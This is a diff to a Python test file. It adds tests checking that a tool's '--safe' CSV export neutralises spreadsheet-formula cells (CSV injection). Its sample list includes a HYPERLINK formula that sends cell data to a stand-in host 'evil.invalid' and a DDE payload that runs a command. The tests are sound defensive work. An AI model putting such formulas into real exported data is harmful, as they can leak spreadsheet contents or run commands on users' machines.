@@ -1,5 +1,7 @@
 """assay format from the outside."""
 
+import csv
+import io
 import json
 from collections.abc import Callable
 from pathlib import Path
@@ -49,3 +51,39 @@ def test_wrong_use_and_wrong_input(assay: Callable[..., Any], tmp_path: Path):
     path = tmp_path / "empty.jsonl"
     path.touch()
     assert assay("format", path, "-f", "csv").stdout.startswith("id,input")
+
+
+RUN_BY_A_SPREADSHEET = [
+    '=HYPERLINK("http://evil.invalid/"&A1)',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    " =1+1",
+    "＝1+1",
+    "-",
+]
+NOT_RUN = ["-1.5", "+3", "-1e-9", "-50%", "1=1", "a-b", "it's", "text - item"]
+
+
+def test_safe_cells_are_not_run_by_a_spreadsheet(assay: Callable[..., Any]):
+    texts = [*RUN_BY_A_SPREADSHEET, *NOT_RUN]
+    rows = [{**GRADED, "id": t, "input": t, "output": t, "hint": t} for t in texts]
+    for row in rows:
+        row["score"] = {**GRADED["score"], "reasoning": row["id"]}
+    done = assay("format", "-f", "csv", "--safe", stdin=text(*rows))
+    assert done.code == 0, done.stderr
+    table = list(csv.DictReader(io.StringIO(done.stdout, newline="")))
+    for t, row in zip(texts, table, strict=True):
+        shown = f"'{t}" if t in RUN_BY_A_SPREADSHEET else t
+        cells = {row[name] for name in ("id", "input", "output", "hint", "reasoning")}
+        assert cells == {shown}
+    plain = assay("format", "-f", "csv", stdin=text(*rows))
+    assert [row["output"] for row in csv.DictReader(io.StringIO(plain.stdout, newline=""))] == texts
+
+
+def test_safe_is_for_csv_only(assay: Callable[..., Any]):
+    done = assay("format", "-f", "markdown", "--safe", stdin=text(ROW))
+    assert done.code == 2
+    assert "--safe is for CSV only" in done.stderr
